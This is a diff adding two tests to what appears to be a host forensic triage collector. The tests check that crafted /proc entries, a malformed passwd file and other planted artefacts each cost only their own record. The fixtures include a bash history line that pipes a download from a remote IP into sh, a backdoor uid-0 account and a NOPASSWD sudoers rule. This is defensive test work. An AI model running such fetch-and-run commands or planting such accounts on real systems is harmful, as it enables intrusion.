@@ -4,10 +4,14 @@ Real triages of fixture roots (no mocks): the attack is planted beside a miner's
 dropper, and what the clean twin finds must still be found.
 """
 
+import os
 import subprocess
+import zipfile
 from collections.abc import Callable
 from pathlib import Path
 
+from tests.collecting import collect_bundle, log_entries, records
+from tests.hostfixtures import write_tree
 from tests.hostile.items_helpers import (
     BAD_NAME,
     WALLET,
@@ -81,3 +85,63 @@ def test_a_5000_digit_uid_in_one_at_job_is_one_logged_skip(
              and e["step"] == "parse"]  # fmt: skip
     assert [(e["detail"]["line"], e["error"][:16]) for e in skips] == [(2, "uid not a number")]
     assert not [e for e in log if e["step"] == "collector-end" and e["outcome"] == "error"]
+
+
+def test_crafted_proc_links_and_rows_cost_only_themselves(tmp_path: Path) -> None:
+    """A --proc tree is host data: fd and ns links and /proc/net rows may say anything."""
+    proc = tmp_path / "proc"
+    header = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid\n"
+    row = "   {n}: 0100007F:0D3D 0100007F:A1B2 01 0:0 0:0 0 {uid} 0 {ino}\n"
+    write_tree(
+        proc,
+        {
+            "net/tcp": header
+            + row.format(n=0, uid=1000, ino=12345)
+            + row.format(n=1, uid="9" * 5000, ino=777)
+            + row.format(n=2, uid=0, ino="1" * 4000),
+            "100/comm": "kworkerds\n",
+            "100/stat": "100 (kworkerds) S 1 100 100 0 -1 0\n",
+        },
+    )
+    (proc / "100/fd").mkdir()
+    (proc / "100/ns").mkdir()
+    links = {"fd/3": "socket:[12345]", "fd/4": "socket:[" + "9" * 4000 + "]", "fd/5": "socket:[x"}
+    for rel, target in {**links, "ns/net": "net:[" + "7" * 4000 + "]"}.items():
+        os.symlink(target, proc / "100" / rel)
+
+    bundle = collect_bundle(tmp_path / "b.zip", "sockets", root=tmp_path / "none", proc=proc)
+
+    sockets = records(bundle, "socket")
+    assert [(s["inode"], s["pid"]) for s in sockets] == [(12345, 100)]
+    problems = [
+        e for e in log_entries(bundle) if e["collector"] == "sockets" and e["step"] == "parse"
+    ]
+    assert len(problems) == 2, problems
+
+
+def test_a_crafted_passwd_line_costs_only_that_account(tmp_path: Path) -> None:
+    """A NUL in a home directory made every path under it raise ValueError (not OSError)."""
+    root = tmp_path / "root"
+    write_tree(
+        root,
+        {
+            "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n"
+            "evil:x:0:0::/home/e\0vil:/bin/sh\n"
+            f"huge:x:{'9' * 5000}:0::/home/huge:/bin/sh\n"
+            "alice:x:1000:1000::/home/alice:/bin/bash\n",
+            "etc/group": "sudo:x:27:alice\n",
+            "etc/sudoers": "alice ALL=(ALL) NOPASSWD: ALL\n",
+            "home/alice/.bash_history": "curl http://198.51.100.7/x | sh\n",
+            "home/alice/.ssh/authorized_keys": f"ssh-ed25519 {KEY} alice\n",
+        },
+    )
+
+    bundle = collect_bundle(tmp_path / "b.zip", "persistence", "accounts", root=root)
+
+    assert {r["name"] for r in records(bundle, "account")} == {"root", "evil", "alice"}
+    assert [r["rule"] for r in records(bundle, "sudo_rule")] == ["alice ALL=(ALL) NOPASSWD: ALL"]
+    keys = [r for r in records(bundle, "persistence") if r["mechanism"] == "authorized_keys"]
+    assert [k["source"] for k in keys] == ["/home/alice/.ssh/authorized_keys"]
+    assert "files/home/alice/.bash_history" in zipfile.ZipFile(bundle).namelist()
+    skipped = [e for e in log_entries(bundle) if e["detail"].get("skipped")]
+    assert skipped and all("\0" in e["detail"]["path"] for e in skipped), skipped
